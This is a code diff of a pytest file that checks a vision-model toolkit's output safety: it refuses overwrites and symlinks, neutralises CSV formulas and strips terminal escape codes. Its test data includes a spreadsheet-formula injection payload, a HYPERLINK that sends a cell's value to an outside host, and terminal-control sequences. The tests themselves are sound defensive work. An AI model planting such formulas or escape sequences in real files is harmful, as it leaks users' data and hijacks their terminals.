@@ -1,29 +1,32 @@
-"""Results: what they replace, where they lie, and what a spreadsheet or a terminal makes of them."""
+"""Result files: which files they may replace, their folders, formulas and control characters."""
 
 import csv
 import io
 import os
 import pty
-import subprocess
 import sys
 from pathlib import Path
 
 import pytest
 import torch
+from helpers.planted import Outside
 from PIL import Image
-from planted import Outside
 from safetensors.torch import load_file
 
-from tools import ablate, convert, draw_attention, export, predict, report, visualize
-from tools.ablating import pages, processes
-from tools.ablating.grid import read_grid
-from tools.ablating.results import collect
-from vil.config import ConfigError, ModelConfig, StageConfig
+from tools.ablation import main as ablate
+from tools.ablation import output, scheduler
+from tools.ablation.grid import read_grid
+from tools.ablation.results import collect
+from tools.dev import draw_attention
+from tools.programs import export, predict
+from tools.report_page import main as report
+from tools.visualization import main as visualize
+from vil.checkpoints.safetensors_file import write_safetensors
+from vil.checkpoints.weights import Weights
+from vil.config import ModelConfig, StageConfig, UserError
 from vil.models.zoo import model_from_config
 from vil.runtime.csv_text import csv_text
-from vil.weight_files import WeightsFile, write_safetensors
 
-ROOT = Path(__file__).parents[2]
 HOSTILE = [
     '=HYPERLINK("http://x/?"&A1,"ok")',
     "+1+1",
@@ -46,7 +49,10 @@ def weights(tmp_path_factory: pytest.TempPathFactory) -> Path:
     model = model_from_config(config)
     data = {"mean": [0.5] * 3, "std": [0.5] * 3}
     write_safetensors(
-        path, WeightsFile(str(path), "run", "raw", model.state_dict(), config, data, tuple(HOSTILE))
+        path,
+        Weights(
+            str(path), "run", "raw", model.state_dict(), config, transform=data, class_names=tuple(HOSTILE)
+        ),
     )
     return path
 
@@ -66,7 +72,7 @@ def test_formulas_become_texts():
 
 def test_class_names_in_a_csv_of_predictions(weights: Path, image: Path, tmp_path: Path):
     output = tmp_path / "out.csv"
-    predict.predict([str(weights), str(image), "--top", "99", "--workers", "0", "--device", "cpu",
+    predict.main([str(weights), str(image), "--top", "99", "--workers", "0", "--device", "cpu",
                      "--format", "csv", "--output", str(output)])  # fmt: skip
     with output.open(newline="") as file:
         rows = list(csv.DictReader(file))
@@ -77,12 +83,14 @@ def test_class_names_in_a_csv_of_predictions(weights: Path, image: Path, tmp_pat
 
 
 @pytest.mark.parametrize("form", ["csv", "json", "table"])
-def test_nothing_steers_the_terminal(weights: Path, image: Path, form: str):
+def test_predictions_do_not_control_the_terminal(
+    weights: Path, image: Path, form: str, monkeypatch: pytest.MonkeyPatch
+):
     master, terminal = pty.openpty()
-    words = [sys.executable, "tools/predict.py", str(weights), str(image), "--top", "99", "--workers", "0",
-             "--device", "cpu", "--format", form]  # fmt: skip
-    done = subprocess.run(words, cwd=ROOT, stdout=terminal, stderr=subprocess.DEVNULL, timeout=300)
-    os.close(terminal)
+    argv = [str(weights), str(image), "--top", "99", "--workers", "0", "--device", "cpu", "--format", form]
+    with open(terminal, "w", encoding="utf-8") as stdout, monkeypatch.context() as patch:
+        patch.setattr(sys, "stdout", stdout)
+        predict.main(argv)
     shown = b""
     try:
         while part := os.read(master, 4096):
@@ -90,15 +98,14 @@ def test_nothing_steers_the_terminal(weights: Path, image: Path, form: str):
     except OSError:  # the end of a terminal
         pass
     os.close(master)
-    assert done.returncode == 0
     assert b"[2Jok" in shown
     assert b"\x1b" not in shown
 
 
-def refused(program, words, *paths: Path) -> None:
+def refused(program, argv, *paths: Path) -> None:
     before = [path.read_bytes() for path in paths]
-    with pytest.raises(ConfigError, match="is an input of this command"):
-        program(list(map(str, words)))
+    with pytest.raises(UserError, match="is an input of this command"):
+        program(list(map(str, argv)))
     assert [path.read_bytes() for path in paths] == before
 
 
@@ -107,21 +114,20 @@ def test_inputs_are_not_replaced(weights: Path, image: Path, tmp_path: Path):
     copy.write_bytes(weights.read_bytes())
     (tmp_path / "link").symlink_to(copy)
     line = [copy, image, "--workers", "0", "--device", "cpu", "--output"]
-    for output in (copy, image, tmp_path / "link"):
-        refused(predict.predict, [*line, output], copy, image)
-    refused(predict.predict, [copy, tmp_path, *line[2:], image], copy, image)  # an image of a folder
-    for output in (copy, tmp_path / "link"):
-        refused(convert.convert, [copy, output], copy)
-        refused(export.export, [copy, output, "--format", "safetensors"], copy)
+    for path in (copy, image, tmp_path / "link"):
+        refused(predict.main, [*line, path], copy, image)
+    refused(predict.main, [copy, tmp_path, *line[2:], image], copy, image)  # an image of a folder
+    for path in (copy, tmp_path / "link"):
+        refused(export.main, [copy, path, "--format", "safetensors"], copy)
     hub = tmp_path / "hub"
     hub.mkdir()
     copy.rename(hub / "model.safetensors")
-    refused(export.export, [hub / "model.safetensors", hub, "--format", "hf"], hub / "model.safetensors")
+    refused(export.main, [hub / "model.safetensors", hub, "--format", "hf"], hub / "model.safetensors")
     sheets = tmp_path / "sheets"
     sheets.mkdir()
     image.rename(sheets / "stage1_rollout.png")
-    words = [weights, sheets / "stage1_rollout.png", "--output", sheets]
-    refused(visualize.visualize, words, sheets / "stage1_rollout.png")
+    argv = [weights, sheets / "stage1_rollout.png", "--output", sheets]
+    refused(visualize.main, argv, sheets / "stage1_rollout.png")
 
 
 def test_files_of_a_run_are_not_replaced(tmp_path: Path):
@@ -130,9 +136,9 @@ def test_files_of_a_run_are_not_replaced(tmp_path: Path):
     (tmp_path / "checkpoints").mkdir()
     for name in ("config.yaml", "metrics.jsonl", "checkpoints/best.pt"):
         (tmp_path / name).write_text("{}\n")
-        refused(report.report, [tmp_path, "--output", tmp_path / name], tmp_path / name)
-        words = ["--checkpoint", tmp_path, "--data.source", "digits", "--json", tmp_path / name]
-        refused(eval_program.evaluate, words, tmp_path / name)
+        refused(report.main, [tmp_path, "--output", tmp_path / name], tmp_path / name)
+        argv = ["--checkpoint", tmp_path, "--data.source", "digits", "--json", tmp_path / name]
+        refused(eval_program.main, argv, tmp_path / name)
 
 
 GRID = "base: {config: configs/models/vil_32.yaml}\nfactors: {a: {x: , y: {seed: 1}}}\nseeds: [0]\n"
@@ -141,8 +147,8 @@ GRID = "base: {config: configs/models/vil_32.yaml}\nfactors: {a: {x: , y: {seed:
 @pytest.mark.parametrize("name", ["...yaml", "..yaml", ".hidden.yaml", "a b  c.yaml", "-x.yaml"])
 def test_a_grid_writes_into_its_own_folder(tmp_path: Path, name: str):
     (tmp_path / name).write_text(GRID)
-    with pytest.raises(ConfigError, match="cannot name a folder of results; rename the file"):
-        ablate.ablate([str(tmp_path / name), "--output", str(tmp_path / "a" / "b"), "--report"])
+    with pytest.raises(UserError, match="cannot name a folder of results; rename the file"):
+        ablate.main([str(tmp_path / name), "--output", str(tmp_path / "a" / "b"), "--report"])
     assert os.listdir(tmp_path) == [name]
 
 
@@ -158,10 +164,10 @@ def test_links_in_the_folder_of_a_grid(tmp_path: Path):
     outside, grid = Outside(tmp_path / "outside"), small_grid(tmp_path)
     (tmp_path / "output").mkdir()
     outside.plant(tmp_path / "output" / "grid", is_folder=True, exists=True)
-    with pytest.raises(ConfigError, match="symbolic link"):
-        pages.write_results(grid, collect(grid), "command")
-    with pytest.raises(ConfigError, match="symbolic link"):
-        processes._take(grid.runs()[0], 0, {}, None)
+    with pytest.raises(UserError, match="symbolic link"):
+        output.write_results(grid, collect(grid), "command")
+    with pytest.raises(UserError, match="symbolic link"):
+        scheduler.start(grid.runs()[0], 0, {}, None)
     assert outside.changes() == []
 
 
@@ -170,14 +176,14 @@ def test_links_in_the_folder_of_a_cell(tmp_path: Path, name: str, monkeypatch: p
     outside, run = Outside(tmp_path / "outside"), small_grid(tmp_path).runs()[0]
     run.folder.mkdir(parents=True)
     outside.plant(run.folder / name, is_folder=False, exists=True)
-    monkeypatch.setattr(processes, "PROGRAM", ["true"])
+    monkeypatch.setattr(scheduler, "PROGRAM", ["true"])
 
     class Silent:
-        def started(self, run):
+        def run_started(self, run):
             pass
 
-    with pytest.raises(ConfigError, match=f"{name} cannot be written: is a symbolic link"):
-        processes._take(run, 0, dict(os.environ), Silent())
+    with pytest.raises(UserError, match=f"{name} cannot be written: is a symbolic link"):
+        scheduler.start(run, 0, dict(os.environ), Silent())
     assert outside.changes() == []
 
 
@@ -185,10 +191,10 @@ def test_links_in_other_folders_of_results(tmp_path: Path, weights: Path, monkey
     outside = Outside(tmp_path / "outside")
     for name in ("config.json", "model.safetensors"):
         outside.plant(tmp_path / name, is_folder=False, exists=True)
-    export.export([str(weights), str(tmp_path), "--format", "hf"])
+    export.main([str(weights), str(tmp_path), "--format", "hf"])
     assert outside.changes() == []
     assert load_file(tmp_path / "model.safetensors")
     outside.plant(tmp_path / "masks.png", is_folder=False, exists=True)
     monkeypatch.setattr(draw_attention, "FIGURES", {"masks": draw_attention.draw_neighbors})
-    draw_attention.draw(["--folder", str(tmp_path)])
+    draw_attention.main(["--folder", str(tmp_path)])
     assert outside.changes() == []
